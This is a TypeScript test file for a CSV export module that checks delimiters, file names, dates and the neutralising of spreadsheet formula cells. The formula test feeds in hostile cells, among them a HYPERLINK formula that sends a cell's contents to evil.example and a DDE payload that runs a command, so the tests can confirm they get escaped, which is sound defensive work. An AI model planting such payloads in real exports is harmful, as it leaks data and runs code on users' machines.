import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { FORMULA_START, csvDate, csvDateTime, csvFileName, csvText } from './csv.ts';

/** The cells of CSV text as a spreadsheet reads them (BOM off, `;` between fields). */
function cells(text: string): string[][] {
	return Papa.parse<string[]>(text.slice(1), { delimiter: ';', newline: '\r\n' }).data;
}

const PLAIN_NEGATIVE = /^-\d+(?:[.,]\d+)?$/;

describe('csvText', () => {
	it('starts with a BOM, separates by ; and CRLF, and quotes only what needs it', () => {
		const text = csvText([
			['Del', 'Text'],
			['Svar', 'Ja; men "trasig", 2,5 m\nandra raden'],
		]);
		expect(text.startsWith('\uFEFFDel;Text\r\n')).toBe(true);
		expect(text).toContain('Svar;"Ja; men ""trasig"", 2,5 m\nandra raden"');
		const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ';' }).data;
		expect(parsed[1]).toEqual(['Svar', 'Ja; men "trasig", 2,5 m\nandra raden']);
	});
});

describe('formula cells', () => {
	it('neutralises cells starting with = + - @ tab or CR with a leading quote', () => {
		const hostile = [
			'=1+1',
			'=HYPERLINK("http://evil.example?"&A1;"klicka")',
			'+46 70 123 45 67',
			"-2+3+cmd|' /C calc'!A0",
			'@SUM(A1:A2)',
			'\t=1+1',
			'\r=1+1',
			'=1+1\nandra raden',
			'-1e5',
			'-',
		];
		const parsed = cells(csvText([hostile]))[0];
		expect(parsed).toEqual(hostile.map((cell) => `'${cell}`));
	});

	it('leaves plain negative numbers and ordinary text as they are', () => {
		const plain = ['-3', '-2,5', '-0.5', '3', 'Ja', ' =inte först', "'redan citerad", 'a=b', ''];
		expect(cells(csvText([['x', ...plain]]))[0]).toEqual(['x', ...plain]);
		expect(csvText([['-3', '=1']])).toBe('\uFEFF-3;"\'=1"');
	});

	it('never lets a cell start a formula, and changes nothing else (property)', () => {
		const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ';', "'", '1', 'a', 'å');
		const cell = fc.oneof(
			fc.string(),
			fc.array(risky, { maxLength: 6 }).map((parts) => parts.join('')),
			fc.tuple(risky, fc.string()).map(([head, tail]) => head + tail),
			fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
			fc.integer().map(String),
		);
		fc.assert(
			fc.property(
				fc
					.integer({ min: 1, max: 4 })
					.chain((width) =>
						fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }),
					),
				(rows) => {
					// A first column that is never empty, so an all-empty row still reads back as a row.
					const input = rows.map((row) => ['x', ...row]);
					const output = cells(csvText(input));
					expect(output).toHaveLength(input.length);
					output.forEach((row, r) => {
						row.forEach((value, c) => {
							const original = input[r]?.[c] ?? '';
							expect(/^[=+@\t\r]/.test(value)).toBe(false);
							if (value.startsWith('-')) expect(value).toMatch(PLAIN_NEGATIVE);
							expect(value).toBe(FORMULA_START.test(original) ? `'${original}` : original);
						});
					});
				},
			),
			{ numRuns: 500 },
		);
	});

	it('is the one place CSV is written: no other source file calls unparse', async () => {
		const root = path.resolve(import.meta.dirname, '../..');
		const files = (await readdir(root, { recursive: true, withFileTypes: true }))
			.filter((e) => e.isFile() && /\.(ts|svelte)$/.test(e.name) && !e.name.endsWith('.spec.ts'))
			.map((e) => path.join(e.parentPath, e.name));
		const writers: string[] = [];
		for (const file of files) {
			if (/\bunparse\b/.test(await readFile(file, 'utf8'))) writers.push(path.relative(root, file));
		}
		expect(writers).toEqual([path.join('lib', 'state', 'csv.ts')]);
	});
});

describe('csvFileName', () => {
	it('keeps letters without their marks and makes everything else a dash', () => {
		expect(csvFileName('rond', 'Förskolan Ängen/Öst', '2026-11-27', 'enhet')).toBe(
			'rond-Forskolan-Angen-Ost-2026-11-27.csv',
		);
		expect(csvFileName('rond', ' / ', '2026-11-27', 'enhet')).toBe('rond-enhet-2026-11-27.csv');
	});
});

describe('csvDate and csvDateTime', () => {
	it('keep a calendar date and write a moment as local ISO 8601 with its offset, the same instant', () => {
		expect(csvDate('2026-11-23')).toBe('2026-11-23');
		for (const moment of ['2026-11-23T09:00:00.000Z', '2026-06-30T23:30:15.000Z', '2027-01-01T00:00:00.000Z']) {
			const out = csvDateTime(moment);
			expect(out).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}[+-]\d{2}:\d{2}$/);
			expect(Date.parse(out)).toBe(Date.parse(moment));
			expect(out.slice(0, 10)).toBe(csvDate(moment));
		}
		// Something that is no date stays as it was, never "NaN".
		expect(csvDateTime('')).toBe('');
		expect(csvDate('soon')).toBe('soon');
	});
});
